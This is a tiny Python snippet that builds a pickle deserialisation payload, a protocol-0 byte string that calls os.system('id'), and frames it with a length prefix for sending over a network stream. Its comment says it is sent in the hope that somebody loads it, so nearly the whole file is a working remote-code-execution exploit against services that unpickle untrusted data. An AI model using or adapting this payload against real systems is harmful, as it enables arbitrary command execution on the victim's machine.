# why: a pickle is sent in the hope that somebody loads it.
# source: https://docs.python.org/3/library/pickle.html#data-stream-format
import struct

body = b"cos\nsystem\n(S'id'\ntR."
frames = struct.pack(">I", len(body)) + body
